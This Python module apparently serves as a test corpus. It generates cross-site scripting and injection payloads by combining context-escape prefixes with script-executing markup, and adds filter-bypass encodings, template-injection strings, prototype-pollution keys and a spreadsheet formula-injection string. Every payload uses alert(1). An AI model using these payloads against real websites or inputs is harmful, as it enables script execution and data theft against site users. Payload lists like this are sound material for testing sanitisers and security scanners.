"""Texts that would be scripts, or break out of where they stand, if anything ever took them for more than text."""

from itertools import product

ACT = "alert(1)"
# What runs by itself once it is markup.
MARKUP = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src=javascript:{}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<math href=javascript:{}>click</math>",
    "<a href=javascript:{}>click</a>",
    "<form action=javascript:{}><button>go</button></form>",
    "<style>@import 'javascript:{}';</style>",
    "<link rel=stylesheet href=javascript:{}>",
    "<marquee onstart={}>x</marquee>",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<template><script>{}</script>",
    "<div x-data x-init={}>",
    "<div x-data x-html=\"'<img src=x onerror={}>'\">",
    "<p :style='{}' @click='{}'>x</p>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><script>{}</script></svg>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<select onchange={} autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
)
# What leads out of where the text stands first.
EXITS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "`>",
    "</template>",
    "</style>",
    '\\">',
    "&quot;&gt;",
)
# What runs without any markup, where a text is put into a script, an address or a template.
BARE = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    '";{};//',
    "';{};//",
    "`${{{}}}`",
    "${{{}}}",
    "{{{{{}}}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{% {} %}}",
    "\\u003cscript\\u003e{}",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "＜script＞{}＜/script＞",
    "<scr\0ipt>{}</scr\0ipt>",
    "<<script>{}//<</script>",
    "[x](javascript:{})",
    '![x](x"onerror="{})',
    "<!--[if IE]><script>{}</script><![endif]-->",
    "'-{}-'",
    '"-{}-"',
    "\u2028{}\u2029",
    "__proto__[x]={}",
    "constructor[prototype][x]={}",
    "=cmd|'{}'!A0",
    "$evaluate('{}')",
    "x-on:load={}",
)
PAYLOADS = [
    *(exit_ + markup.replace("{}", ACT) for exit_, markup in product(EXITS, MARKUP)),
    *(bare.replace("{{", "{").replace("}}", "}").replace("{}", ACT) for bare in BARE),
]


def at_most(length: int) -> list[str]:
    """Those that fit into a short field."""
    return [one for one in PAYLOADS if len(one) <= length and "\0" not in one]
